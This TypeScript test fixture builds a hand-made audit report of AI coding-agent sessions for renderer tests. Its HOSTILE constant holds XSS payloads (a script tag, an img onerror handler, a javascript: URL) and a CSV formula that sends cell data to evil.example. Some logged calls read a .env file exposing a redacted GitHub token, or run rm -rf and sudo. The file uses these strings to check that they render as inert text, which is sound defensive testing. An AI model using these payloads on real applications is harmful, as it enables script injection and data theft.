/**
 * A realistic, hand-built `agent-audit/report@1` for renderer tests: three agents, ten sessions
 * (one of them a replay), every outcome, denied/failed/pending/interrupted calls, secrets and
 * shell-config touches, a subagent, gaps, and hostile strings where logs can carry them.
 *
 * The sessions are written out by hand; the aggregates are summed from them below with the
 * contract's rules (replays listed, never counted), so the two can never disagree.
 * Facts the tests rely on are exported as SAMPLE_FACTS, worked out by hand from the sessions.
 */
import type { Access, Agent, Gap, ToolStatus } from '../../src/core/model';
import {
  type AgentSummary,
  type DailyVolume,
  type ModelSummary,
  type PathEntry,
  type Report,
  type ReportSession,
  type ReportToolCall,
  type ReportTouch,
  REPORT_SCHEMA,
} from '../../src/core/report';

/** Strings a hostile log could carry; they must render as inert text everywhere. */
export const HOSTILE = {
  scriptPath: '/home/dev/rustbox/notes/<script>window.__pwned = 1</script>.md',
  imgArgs: '"><img src=x onerror="window.__pwned=2">.png',
  jsUrlPath: 'javascript:alert(document.cookie)',
  csvFormula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  markdownPipe: 'a | b\nc',
} as const;

type CallSpec = Omit<ReportToolCall, 'capabilities' | 'args'> & { args?: string; capabilities?: string[] };
type TouchSpec = Omit<ReportTouch, 'capabilities'> & { capabilities?: string[] };
type SessionSpec = Omit<ReportSession, 'toolCalls' | 'touches' | 'gaps' | 'meta' | 'sources' | 'parentId' | 'cwd' | 'secretFindings'> & {
  secretFindings?: ReportSession['secretFindings'];
  parentId?: string;
  cwd?: string | null;
  toolCalls?: CallSpec[];
  touches?: TouchSpec[];
  gaps?: Gap[];
  meta?: ReportSession['meta'];
  sources?: string[];
};

function session(spec: SessionSpec): ReportSession {
  return {
    ...spec,
    parentId: spec.parentId ?? null,
    cwd: spec.cwd === undefined ? spec.project : spec.cwd,
    toolCalls: (spec.toolCalls ?? []).map((c) => ({ ...c, args: c.args ?? '', capabilities: c.capabilities ?? [] })),
    touches: (spec.touches ?? []).map((t) => ({ ...t, capabilities: t.capabilities ?? [] })),
    gaps: spec.gaps ?? [],
    meta: spec.meta ?? {},
    sources: spec.sources ?? [],
    secretFindings: spec.secretFindings ?? [],
  };
}

const WEBSHOP = '/home/dev/webshop';
const OPS = '/srv/ops-scripts';
const RUSTBOX = '/home/dev/rustbox';
const HANDBOOK = '/home/dev/handbook';
const CC_LOGS = '/home/dev/.claude/projects';

const SESSIONS: ReportSession[] = [
  session({
    id: '9f2c1e4a-5b7d-4c1e-9a0b-1c2d3e4f5a01',
    agent: 'claude-code',
    title: 'Fix cart total rounding',
    models: ['claude-opus-4-1-20250805'],
    project: WEBSHOP,
    startedAt: '2025-11-17T09:12:05.120Z',
    endedAt: '2025-11-17T09:48:30.004Z',
    outcome: 'productive',
    category: 'code',
    capabilities: {
      'code-typescript': { reads: 1, writes: 2, calls: 3 },
      'config-data': { reads: 1, writes: 0, calls: 1 },
      'shell-exec': { reads: 0, writes: 2, calls: 2 },
      'subagent-spawn': { reads: 0, writes: 1, calls: 1 },
    },
    toolCalls: [
      { id: 'toolu_01', tool: 'Read', kind: 'read', status: 'succeeded', startedAt: '2025-11-17T09:12:40.000Z', args: 'src/cart.ts', capabilities: ['code-typescript'] },
      { id: 'toolu_02', tool: 'Grep', kind: 'search', status: 'succeeded', startedAt: '2025-11-17T09:13:02.000Z', args: 'roundTotal' },
      { id: 'toolu_03', tool: 'Edit', kind: 'edit', status: 'succeeded', startedAt: '2025-11-17T09:15:10.000Z', args: 'src/cart.ts', capabilities: ['code-typescript'] },
      {
        id: 'toolu_04',
        tool: 'Bash',
        kind: 'shell',
        status: 'failed',
        startedAt: '2025-11-17T09:16:00.000Z',
        args: 'npm test',
        exitCode: 1,
        error: 'FAIL src/cart.test.ts > rounds half up',
        capabilities: ['config-data', 'shell-exec'],
      },
      { id: 'toolu_05', tool: 'Edit', kind: 'edit', status: 'succeeded', startedAt: '2025-11-17T09:20:31.000Z', args: 'src/cart.test.ts', capabilities: ['code-typescript'] },
      { id: 'toolu_06', tool: 'Bash', kind: 'shell', status: 'succeeded', startedAt: '2025-11-17T09:21:12.000Z', args: 'npm test', exitCode: 0, capabilities: ['shell-exec'] },
      { id: 'toolu_07', tool: 'Task', kind: 'spawn', status: 'succeeded', startedAt: '2025-11-17T09:30:10.000Z', args: 'Review rounding edge cases', capabilities: ['subagent-spawn'] },
    ],
    touches: [
      { path: `${WEBSHOP}/src/cart.ts`, access: 'read', evidence: 'observed', toolCallId: 'toolu_01', capabilities: ['code-typescript'] },
      { path: `${WEBSHOP}/src/cart.ts`, access: 'write', evidence: 'observed', toolCallId: 'toolu_03', lines: { start: 40, end: 52 }, capabilities: ['code-typescript'] },
      { path: `${WEBSHOP}/package.json`, access: 'read', evidence: 'parsed', toolCallId: 'toolu_04', capabilities: ['config-data'] },
      { path: `${WEBSHOP}/src/cart.test.ts`, access: 'write', evidence: 'observed', toolCallId: 'toolu_05', lines: { start: 88, end: 104 }, capabilities: ['code-typescript'] },
    ],
    sources: [`${CC_LOGS}/-home-dev-webshop/9f2c1e4a-5b7d-4c1e-9a0b-1c2d3e4f5a01.jsonl`],
    meta: { version: '2.0.14', gitBranch: 'fix/rounding' },
  }),
  session({
    id: 'agent-a3f9c2d1',
    agent: 'claude-code',
    parentId: '9f2c1e4a-5b7d-4c1e-9a0b-1c2d3e4f5a01',
    parentToolCallId: 'toolu_07',
    title: 'Review rounding edge cases',
    models: ['claude-haiku-4-5-20251001'],
    project: WEBSHOP,
    startedAt: '2025-11-17T09:30:11.500Z',
    endedAt: '2025-11-17T09:33:40.000Z',
    outcome: 'noop',
    category: 'research',
    capabilities: { 'code-typescript': { reads: 2, writes: 0, calls: 2 } },
    toolCalls: [
      { id: 'toolu_s1', tool: 'Read', kind: 'read', status: 'succeeded', startedAt: '2025-11-17T09:30:20.000Z', args: 'src/cart.ts', capabilities: ['code-typescript'] },
      { id: 'toolu_s2', tool: 'Grep', kind: 'search', status: 'succeeded', startedAt: '2025-11-17T09:31:02.000Z', args: 'Math.round' },
      { id: 'toolu_s3', tool: 'Read', kind: 'read', status: 'succeeded', startedAt: '2025-11-17T09:31:40.000Z', args: 'src/money.ts', capabilities: ['code-typescript'] },
    ],
    touches: [
      { path: `${WEBSHOP}/src/cart.ts`, access: 'read', evidence: 'observed', toolCallId: 'toolu_s1', capabilities: ['code-typescript'] },
      { path: `${WEBSHOP}/src/money.ts`, access: 'read', evidence: 'observed', toolCallId: 'toolu_s3', capabilities: ['code-typescript'] },
    ],
    sources: [`${CC_LOGS}/-home-dev-webshop/9f2c1e4a-5b7d-4c1e-9a0b-1c2d3e4f5a01/subagents/agent-a3f9c2d1.jsonl`],
    meta: { agentType: 'general-purpose' },
  }),
  session({
    id: 'agent-compact-5e1f',
    agent: 'claude-code',
    parentId: '9f2c1e4a-5b7d-4c1e-9a0b-1c2d3e4f5a01',
    title: 'Compaction summary',
    models: ['claude-opus-4-1-20250805'],
    project: WEBSHOP,
    startedAt: '2025-11-17T09:40:00.000Z',
    endedAt: '2025-11-17T09:40:31.000Z',
    outcome: 'noop',
    category: 'research',
    replay: true,
    capabilities: { 'code-typescript': { reads: 1, writes: 0, calls: 1 } },
    toolCalls: [{ id: 'toolu_r1', tool: 'Read', kind: 'read', status: 'succeeded', args: 'src/cart.ts', capabilities: ['code-typescript'] }],
    touches: [{ path: `${WEBSHOP}/src/cart.ts`, access: 'read', evidence: 'observed', toolCallId: 'toolu_r1', capabilities: ['code-typescript'] }],
    sources: [`${CC_LOGS}/-home-dev-webshop/9f2c1e4a-5b7d-4c1e-9a0b-1c2d3e4f5a01/subagents/agent-compact-5e1f.jsonl`],
  }),
  session({
    id: '019a8f7e-2c44-7d10-b1e2-6f3a9c0d1e22',
    agent: 'codex',
    title: 'Deploy the worker as a systemd service',
    models: ['gpt-5-codex'],
    project: OPS,
    startedAt: '2025-11-18T14:02:00.000Z',
    endedAt: '2025-11-18T14:31:10.000Z',
    outcome: 'productive',
    category: 'infrastructure',
    capabilities: {
      'config-systemd': { reads: 1, writes: 1, calls: 2 },
      'net-egress': { reads: 1, writes: 1, calls: 2 },
      privileged: { reads: 0, writes: 1, calls: 1 },
      'shell-exec': { reads: 0, writes: 4, calls: 4 },
      'vcs-write': { reads: 0, writes: 1, calls: 1 },
    },
    toolCalls: [
      { id: 'call_1', tool: 'shell', kind: 'shell', status: 'succeeded', startedAt: '2025-11-18T14:02:30.000Z', args: 'cat deploy/worker.service', exitCode: 0, capabilities: ['config-systemd', 'shell-exec'] },
      { id: 'call_2', tool: 'apply_patch', kind: 'edit', status: 'succeeded', startedAt: '2025-11-18T14:05:12.000Z', args: 'deploy/worker.service', capabilities: ['config-systemd'] },
      {
        id: 'call_3',
        tool: 'shell',
        kind: 'shell',
        status: 'succeeded',
        startedAt: '2025-11-18T14:09:44.000Z',
        args: 'curl -fsSL https://releases.example.com/worker/v1.4.2.tar.gz -o /tmp/worker.tgz',
        exitCode: 0,
        capabilities: ['net-egress', 'shell-exec'],
      },
      {
        id: 'call_4',
        tool: 'shell',
        kind: 'shell',
        status: 'succeeded',
        startedAt: '2025-11-18T14:20:03.000Z',
        args: "git commit -am 'worker: add service' && git push",
        exitCode: 0,
        capabilities: ['net-egress', 'shell-exec', 'vcs-write'],
      },
      {
        id: 'call_5',
        tool: 'shell',
        kind: 'shell',
        status: 'failed',
        startedAt: '2025-11-18T14:28:51.000Z',
        args: 'sudo systemctl restart worker',
        exitCode: 1,
        error: 'sudo: a terminal is required to read the password',
        capabilities: ['privileged', 'shell-exec'],
      },
    ],
    touches: [
      { path: `${OPS}/deploy/worker.service`, access: 'read', evidence: 'parsed', toolCallId: 'call_1', capabilities: ['config-systemd'] },
      { path: `${OPS}/deploy/worker.service`, access: 'write', evidence: 'parsed', toolCallId: 'call_2', lines: { start: 1, end: 14 }, capabilities: ['config-systemd'] },
      { path: '/tmp/worker.tgz', access: 'create', evidence: 'parsed', toolCallId: 'call_3' },
    ],
    gaps: [{ kind: 'malformed-line', detail: 'not JSON', count: 1, source: '/home/dev/.codex/sessions/2025/11/18/rollout-2025-11-18T14-02-00-019a8f7e.jsonl', line: 212 }],
    sources: ['/home/dev/.codex/sessions/2025/11/18/rollout-2025-11-18T14-02-00-019a8f7e.jsonl'],
    meta: { cliVersion: '0.58.0', sandbox: 'workspace-write', approval: 'on-request' },
  }),
  session({
    id: 'c7d1a0b2-3e4f-4a5b-8c6d-7e8f9a0b1c33',
    agent: 'claude-code',
    title: 'Make nginx reload on config change',
    models: ['claude-sonnet-4-5-20250929'],
    project: '/home/dev/homelab',
    startedAt: '2025-11-19T16:40:00.000Z',
    endedAt: '2025-11-19T16:52:12.000Z',
    outcome: 'blocked',
    category: 'research',
    capabilities: { 'shell-config': { reads: 1, writes: 0, calls: 1 } },
    toolCalls: [
      { id: 'toolu_11', tool: 'Read', kind: 'read', status: 'succeeded', startedAt: '2025-11-19T16:41:00.000Z', args: '/home/dev/.bashrc', capabilities: ['shell-config'] },
      { id: 'toolu_12', tool: 'Read', kind: 'read', status: 'succeeded', startedAt: '2025-11-19T16:42:30.000Z', args: '/etc/nginx/nginx.conf' },
      {
        id: 'toolu_13',
        tool: 'Bash',
        kind: 'shell',
        status: 'denied',
        startedAt: '2025-11-19T16:47:02.000Z',
        args: 'sudo systemctl reload nginx',
        error: "The user doesn't want to proceed with this tool use.",
      },
      {
        id: 'toolu_14',
        tool: 'Edit',
        kind: 'edit',
        status: 'denied',
        startedAt: '2025-11-19T16:51:40.000Z',
        args: '/home/dev/.bashrc',
        error: "The user doesn't want to proceed with this tool use.",
      },
    ],
    touches: [
      { path: '/home/dev/.bashrc', access: 'read', evidence: 'observed', toolCallId: 'toolu_11', capabilities: ['shell-config'] },
      { path: '/etc/nginx/nginx.conf', access: 'read', evidence: 'observed', toolCallId: 'toolu_12' },
    ],
    sources: [`${CC_LOGS}/-home-dev-homelab/c7d1a0b2-3e4f-4a5b-8c6d-7e8f9a0b1c33.jsonl`],
    meta: { version: '2.0.14' },
  }),
  session({
    id: '2025-11-20-sailing-blue-fish',
    agent: 'gptme',
    title: 'Write the onboarding guide',
    models: ['anthropic/claude-sonnet-4-20250514'],
    project: HANDBOOK,
    startedAt: '2025-11-20T08:15:00.000Z',
    endedAt: '2025-11-20T08:41:00.000Z',
    outcome: 'abandoned',
    category: 'content',
    capabilities: {
      'doc-markdown': { reads: 0, writes: 2, calls: 2 },
      'shell-exec': { reads: 0, writes: 2, calls: 2 },
    },
    toolCalls: [
      { id: 'gptme-1', tool: 'save', kind: 'write', status: 'succeeded', startedAt: '2025-11-20T08:16:10.000Z', args: 'docs/onboarding.md', capabilities: ['doc-markdown'] },
      { id: 'gptme-2', tool: 'shell', kind: 'shell', status: 'succeeded', startedAt: '2025-11-20T08:20:00.000Z', args: 'ls docs', exitCode: 0, capabilities: ['shell-exec'] },
      { id: 'gptme-3', tool: 'patch', kind: 'edit', status: 'succeeded', startedAt: '2025-11-20T08:31:45.000Z', args: 'docs/index.md', capabilities: ['doc-markdown'] },
      { id: 'gptme-4', tool: 'shell', kind: 'shell', status: 'interrupted', startedAt: '2025-11-20T08:40:12.000Z', args: 'make html', capabilities: ['shell-exec'] },
    ],
    touches: [
      { path: `${HANDBOOK}/docs/onboarding.md`, access: 'create', evidence: 'observed', toolCallId: 'gptme-1', capabilities: ['doc-markdown'] },
      { path: `${HANDBOOK}/docs/index.md`, access: 'write', evidence: 'parsed', toolCallId: 'gptme-3', lines: { start: 3, end: 9 }, capabilities: ['doc-markdown'] },
    ],
    gaps: [{ kind: 'guessed-timezone', detail: 'naive timestamps read as UTC', count: 38, source: '/home/dev/.local/share/gptme/logs/2025-11-20-sailing-blue-fish/conversation.jsonl', line: 1 }],
    sources: ['/home/dev/.local/share/gptme/logs/2025-11-20-sailing-blue-fish/conversation.jsonl'],
  }),
  session({
    id: 'e41b7c9d-0a1b-4c2d-8e3f-4a5b6c7d8e44',
    agent: 'claude-code',
    title: 'Add CSV export',
    models: ['claude-sonnet-4-5-20250929'],
    project: WEBSHOP,
    startedAt: '2025-11-25T10:03:00.000Z',
    endedAt: '2025-11-25T10:09:41.000Z',
    outcome: 'in-progress',
    category: 'code',
    capabilities: {
      'code-typescript': { reads: 1, writes: 1, calls: 2 },
      'shell-exec': { reads: 0, writes: 1, calls: 1 },
    },
    toolCalls: [
      { id: 'toolu_21', tool: 'Read', kind: 'read', status: 'succeeded', startedAt: '2025-11-25T10:03:30.000Z', args: 'src/export.ts', capabilities: ['code-typescript'] },
      { id: 'toolu_22', tool: 'Write', kind: 'write', status: 'succeeded', startedAt: '2025-11-25T10:06:02.000Z', args: 'src/export/csv.ts', capabilities: ['code-typescript'] },
      { id: 'toolu_23', tool: 'Bash', kind: 'shell', status: 'pending', startedAt: '2025-11-25T10:09:41.000Z', args: 'npx tsc --noEmit', capabilities: ['shell-exec'] },
    ],
    touches: [
      { path: `${WEBSHOP}/src/export.ts`, access: 'read', evidence: 'observed', toolCallId: 'toolu_21', capabilities: ['code-typescript'] },
      { path: `${WEBSHOP}/src/export/csv.ts`, access: 'create', evidence: 'observed', toolCallId: 'toolu_22', capabilities: ['code-typescript'] },
    ],
    gaps: [{ kind: 'missing-result', detail: 'Bash', count: 1, source: `${CC_LOGS}/-home-dev-webshop/e41b7c9d-0a1b-4c2d-8e3f-4a5b6c7d8e44.jsonl`, line: 57 }],
    sources: [`${CC_LOGS}/-home-dev-webshop/e41b7c9d-0a1b-4c2d-8e3f-4a5b6c7d8e44.jsonl`],
  }),
  session({
    id: '019ab3c2-8d9e-7f01-a2b3-c4d5e6f7a855',
    agent: 'codex',
    title: `Fix the release build ${HOSTILE.markdownPipe}`,
    models: ['gpt-5-codex', 'gpt-5'],
    project: RUSTBOX,
    startedAt: '2025-11-26T13:20:00.000Z',
    endedAt: '2025-11-26T13:58:45.000Z',
    outcome: 'failed',
    category: 'code',
    capabilities: {
      'code-rust': { reads: 0, writes: 1, calls: 1 },
      'doc-markdown': { reads: 1, writes: 0, calls: 1 },
      'secrets-access': { reads: 1, writes: 0, calls: 1 },
      'shell-exec': { reads: 0, writes: 4, calls: 4 },
    },
    toolCalls: [
      { id: 'call_a', tool: 'shell', kind: 'shell', status: 'succeeded', startedAt: '2025-11-26T13:20:40.000Z', args: 'cat .env', exitCode: 0, capabilities: ['secrets-access', 'shell-exec'] },
      {
        id: 'call_b',
        tool: 'shell',
        kind: 'shell',
        status: 'failed',
        startedAt: '2025-11-26T13:22:05.000Z',
        args: 'cargo build --release',
        exitCode: 101,
        error: 'error[E0599]: no method named `unwrap_or_default` found for enum `Option`',
        capabilities: ['shell-exec'],
      },
      { id: 'call_c', tool: 'shell', kind: 'shell', status: 'succeeded', startedAt: '2025-11-26T13:30:00.000Z', args: `cat '${HOSTILE.scriptPath}'`, exitCode: 0, capabilities: ['doc-markdown', 'shell-exec'] },
      { id: 'call_d', tool: 'apply_patch', kind: 'edit', status: 'succeeded', startedAt: '2025-11-26T13:41:19.000Z', args: 'src/main.rs', capabilities: ['code-rust'] },
      { id: 'call_e', tool: 'view_image', kind: 'other', status: 'succeeded', startedAt: '2025-11-26T13:50:00.000Z', args: HOSTILE.imgArgs },
      {
        id: 'call_f',
        tool: 'shell',
        kind: 'shell',
        status: 'failed',
        startedAt: '2025-11-26T13:55:31.000Z',
        args: 'cargo build --release',
        exitCode: 101,
        error: HOSTILE.csvFormula,
        capabilities: ['shell-exec'],
      },
    ],
    touches: [
      { path: `${RUSTBOX}/.env`, access: 'read', evidence: 'parsed', toolCallId: 'call_a', capabilities: ['secrets-access'] },
      { path: HOSTILE.scriptPath, access: 'read', evidence: 'parsed', toolCallId: 'call_c', capabilities: ['doc-markdown'] },
      { path: HOSTILE.jsUrlPath, access: 'read', evidence: 'parsed', toolCallId: 'call_c' },
      { path: `${RUSTBOX}/src/main.rs`, access: 'write', evidence: 'parsed', toolCallId: 'call_d', lines: { start: 12, end: 19 }, capabilities: ['code-rust'] },
    ],
    gaps: [{ kind: 'unknown-tool', detail: 'view_image', count: 1, source: '/home/dev/.codex/sessions/2025/11/26/rollout-2025-11-26T13-20-00-019ab3c2.jsonl', line: 88 }],
    sources: ['/home/dev/.codex/sessions/2025/11/26/rollout-2025-11-26T13-20-00-019ab3c2.jsonl'],
    secretFindings: [
      {
        ruleId: '@secretlint/secretlint-rule-github',
        kind: 'GITHUB_TOKEN',
        callId: 'call_a',
        field: 'output',
        source: { file: '/home/dev/.codex/sessions/2025/11/26/rollout-2025-11-26T13-20-00-019ab3c2.jsonl', line: 14 },
        preview: 'GITHUB_TOKEN=ghp_wW…[secret: github] <b>x</b>',
      },
    ],
    meta: { cliVersion: '0.61.0', sandbox: 'danger-full-access', approval: 'never', '<b>meta</b>': '<i>hostile</i>' },
  }),
  session({
    id: '2025-12-02-quick-question',
    agent: 'gptme',
    title: 'What does EADDRINUSE mean?',
    models: ['openai/gpt-4o'],
    project: null,
    startedAt: '2025-12-02T19:00:00.000Z',
    endedAt: '2025-12-02T19:03:20.000Z',
    outcome: 'noop',
    category: 'conversation',
    capabilities: {},
    sources: ['/home/dev/.local/share/gptme/logs/2025-12-02-quick-question/conversation.jsonl'],
  }),
  session({
    id: '019ac0d4-1e2f-7a3b-9c4d-5e6f7a8b9c66',
    agent: 'codex',
    title: 'Rename the config loader',
    models: ['gpt-5-codex'],
    project: RUSTBOX,
    startedAt: '2025-12-03T11:00:00.000Z',
    endedAt: '2025-12-03T11:12:00.000Z',
    outcome: 'productive',
    category: 'code',
    capabilities: {
      'code-rust': { reads: 0, writes: 1, calls: 1 },
      destructive: { reads: 0, writes: 1, calls: 1 },
      'shell-exec': { reads: 0, writes: 3, calls: 3 },
    },
    toolCalls: [
      { id: 'call_g', tool: 'shell', kind: 'shell', status: 'succeeded', startedAt: '2025-12-03T11:00:30.000Z', args: 'rg -l load_config', exitCode: 0, capabilities: ['shell-exec'] },
      { id: 'call_h', tool: 'apply_patch', kind: 'edit', status: 'succeeded', startedAt: '2025-12-03T11:04:10.000Z', args: 'src/config.rs', capabilities: ['code-rust'] },
      { id: 'call_i', tool: 'shell', kind: 'shell', status: 'succeeded', startedAt: '2025-12-03T11:07:00.000Z', args: 'cargo test', exitCode: 0, capabilities: ['shell-exec'] },
      { id: 'call_j', tool: 'shell', kind: 'shell', status: 'succeeded', startedAt: '2025-12-03T11:11:20.000Z', args: 'rm -rf target/debug/incremental', exitCode: 0, capabilities: ['destructive', 'shell-exec'] },
    ],
    touches: [
      { path: `${RUSTBOX}/src/config.rs`, access: 'write', evidence: 'parsed', toolCallId: 'call_h', lines: { start: 1, end: 30 }, capabilities: ['code-rust'] },
      { path: `${RUSTBOX}/target/debug/incremental`, access: 'delete', evidence: 'parsed', toolCallId: 'call_j' },
    ],
    sources: ['/home/dev/.codex/sessions/2025/12/03/rollout-2025-12-03T11-00-00-019ac0d4.jsonl'],
  }),
];

const SCAN_GAPS: Gap[] = [
  { kind: 'unreadable', detail: 'EACCES: permission denied', count: 1, source: '/home/dev/.codex/sessions/2025/11/21/rollout-2025-11-21T07-00-00-019a9a00.jsonl' },
  { kind: 'unrecognized-file', detail: 'no known format', count: 2, source: '/home/dev/.gemini/tmp/3f1a/logs.json' },
];

/** Hand-checked facts about the sample, for assertions. */
export const SAMPLE_FACTS = {
  listedSessions: 10,
  countedSessions: 9,
  replays: 1,
  /** Tool calls of counted sessions: 7 + 3 + 5 + 4 + 4 + 3 + 6 + 0 + 4. */
  countedToolCalls: 36,
  matrix: { codeProductive: 2, codeFailed: 1, researchBlocked: 1, researchNoop: 1, conversationNoop: 1, infraProductive: 1 },
  deniedCalls: 2,
  failedCalls: 4,
  agents: { 'claude-code': 4, codex: 3, gptme: 2 } as Record<Agent, number>,
  weeks: ['2025-W47', '2025-W48', '2025-W49'],
  logFiles: 12,
} as const;

function isoWeek(date: string): string {
  const d = new Date(`${date}T00:00:00Z`);
  const day = d.getUTCDay() || 7;
  d.setUTCDate(d.getUTCDate() + 4 - day);
  const week = Math.ceil(((d.getTime() - Date.UTC(d.getUTCFullYear(), 0, 1)) / 86_400_000 + 1) / 7);
  return `${d.getUTCFullYear()}-W${String(week).padStart(2, '0')}`;
}

function bump<K extends string>(counts: Partial<Record<K, number>>, key: K, by = 1): void {
  counts[key] = (counts[key] ?? 0) + by;
}

export function sampleReport(): Report {
  const sessions = structuredClone(SESSIONS);
  const counted = sessions.filter((s) => !s.replay);

  const agents = new Map<Agent, AgentSummary>();
  for (const s of counted) {
    let a = agents.get(s.agent);
    if (!a) agents.set(s.agent, (a = { agent: s.agent, sessions: 0, toolCalls: 0, statuses: {}, outcomes: {}, categories: {}, capabilities: {}, unmappedTools: {} }));
    a.sessions++;
    a.toolCalls += s.toolCalls.length;
    bump(a.outcomes, s.outcome);
    bump(a.categories, s.category);
    for (const c of s.toolCalls) bump<ToolStatus>(a.statuses, c.status);
    for (const id of Object.keys(s.capabilities)) bump(a.capabilities, id);
  }
  agents.get('codex')!.unmappedTools = { view_image: 1 };

  const categories = ['code', 'infrastructure', 'content', 'research', 'cleanup', 'conversation'] as const;
  const outcomes = ['productive', 'noop', 'failed', 'blocked', 'abandoned', 'in-progress'] as const;
  const cells: Record<string, Record<string, number>> = {};
  for (const c of categories) cells[c] = Object.fromEntries(outcomes.map((o) => [o, 0]));
  for (const s of counted) cells[s.category][s.outcome]++;

  const weeks = new Map<string, DailyVolume>();
  for (const s of counted) {
    const date = s.startedAt!.slice(0, 10);
    const week = isoWeek(date);
    let w = weeks.get(week);
    if (!w) weeks.set(week, (w = { week, days: [], sessions: 0, toolCalls: 0 }));
    let d = w.days.find((x) => x.date === date);
    if (!d) w.days.push((d = { date, sessions: 0, toolCalls: 0 }));
    d.sessions++;
    d.toolCalls += s.toolCalls.length;
    w.sessions++;
    w.toolCalls += s.toolCalls.length;
  }

  const models = new Map<string, ModelSummary>();
  for (const s of counted) {
    for (const model of s.models) {
      let m = models.get(model);
      if (!m) models.set(model, (m = { model, sessions: 0, toolCalls: 0, agents: [] }));
      m.sessions++;
      if (model === s.models[0]) m.toolCalls += s.toolCalls.length;
      if (!m.agents.includes(s.agent)) m.agents.push(s.agent);
    }
  }

  const capabilities: Report['capabilities'] = {};
  for (const s of counted) {
    for (const [id, c] of Object.entries(s.capabilities)) {
      const t = (capabilities[id] ??= { sessions: 0, reads: 0, writes: 0, calls: 0 });
      t.sessions++;
      t.reads += c.reads;
      t.writes += c.writes;
      t.calls += c.calls;
    }
  }

  const byPath = new Map<string, PathEntry>();
  for (const s of counted) {
    for (const t of s.touches) {
      let p = byPath.get(t.path);
      if (!p) byPath.set(t.path, (p = { path: t.path, capabilities: [], sessions: [] }));
      for (const id of t.capabilities) if (!p.capabilities.includes(id)) p.capabilities.push(id);
      let entry = p.sessions.find((e) => e.id === s.id);
      if (!entry) p.sessions.push((entry = { id: s.id, agent: s.agent, access: [] as Access[] }));
      if (!entry.access.includes(t.access)) entry.access.push(t.access);
    }
  }
  const paths = [...byPath.values()].sort((a, b) => (a.path < b.path ? -1 : 1));

  return {
    schema: REPORT_SCHEMA,
    generatedAt: '2025-12-04T08:00:00.000Z',
    scope: { roots: ['/home/dev/.claude/projects', '/home/dev/.codex/sessions', '/home/dev/.local/share/gptme/logs'], project: null, since: '2025-11-15', until: null, agents: null },
    totals: {
      sessions: counted.length,
      toolCalls: counted.reduce((n, s) => n + s.toolCalls.length, 0),
      touchedPaths: paths.length,
      files: SAMPLE_FACTS.logFiles,
      secretFindings: counted.reduce((n, s) => n + s.secretFindings.length, 0),
    },
    sessions,
    agents: [...agents.values()].sort((x, y) => y.sessions - x.sessions || x.agent.localeCompare(y.agent)),
    matrix: { categories: [...categories], outcomes: [...outcomes], cells },
    daily: [...weeks.values()],
    models: [...models.values()].sort((a, b) => b.sessions - a.sessions || a.model.localeCompare(b.model)),
    capabilities: Object.fromEntries(Object.entries(capabilities).sort(([a], [b]) => a.localeCompare(b))),
    paths,
    gaps: [...SCAN_GAPS, ...sessions.flatMap((s) => s.gaps)],
  };
}
